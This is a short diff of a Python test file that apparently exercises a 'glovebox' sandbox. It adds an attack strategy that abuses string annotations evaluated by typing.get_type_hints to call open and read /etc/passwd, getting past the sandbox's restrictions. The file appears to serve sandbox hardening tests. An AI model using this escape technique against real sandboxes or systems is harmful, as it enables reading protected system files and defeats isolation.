@@ -12,12 +12,19 @@ from glovebox import Strategy
 import typing
 
 
+found = []
+
+
 class Hint:
-    value: "open('/etc/passwd').read(20)"
+    value: "found.append(open('/etc/passwd').read(20))"
 
 
 def attack(ctx, bar):
-    return typing.get_type_hints(Hint, localns={"open": open})["value"]
+    try:
+        typing.get_type_hints(Hint, globalns={"found": found, "open": open})
+    except TypeError:
+        pass
+    return found and found[0]
 
 
 class Attack(Strategy):
